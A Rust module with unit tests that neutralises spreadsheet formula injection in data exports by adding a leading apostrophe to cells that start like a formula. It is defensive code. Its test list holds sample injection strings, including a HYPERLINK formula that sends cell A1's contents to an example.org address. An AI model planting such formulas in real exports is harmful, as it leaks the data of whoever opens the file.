//! What goes into a spreadsheet cell of an export. Staff open exports in LibreOffice or
//! Excel, which run a cell that starts like a formula: a pseudonym `=HYPERLINK(…)` typed by
//! a participant would run on a coordinator's machine. Such a cell gets a leading
//! apostrophe, which spreadsheets read as "this is text" and do not show.

use std::borrow::Cow;

/// `text` as a cell a spreadsheet shows and never runs: unchanged unless it starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return (what spreadsheets take as the start of
/// a formula), in which case an apostrophe comes first. Agora's own figures are never
/// negative, so no number is touched.
pub fn inert_cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_formula_becomes_text() {
        for attack in [
            "=1+1",
            "=HYPERLINK(\"https://example.org/?\"&A1,\"cliquez\")",
            "+33 6 00 00 00 00",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ] {
            let cell = inert_cell(attack);
            assert_eq!(cell, format!("'{attack}"), "{attack:?}");
        }
    }

    #[test]
    fn ordinary_text_and_figures_are_left_alone() {
        for plain in [
            "Marie",
            "",
            "12",
            "3,5",
            "Usager·e",
            " =pas une formule",
            "'déjà",
        ] {
            assert!(matches!(inert_cell(plain), Cow::Borrowed(_)), "{plain:?}");
            assert_eq!(inert_cell(plain), plain);
        }
    }
}
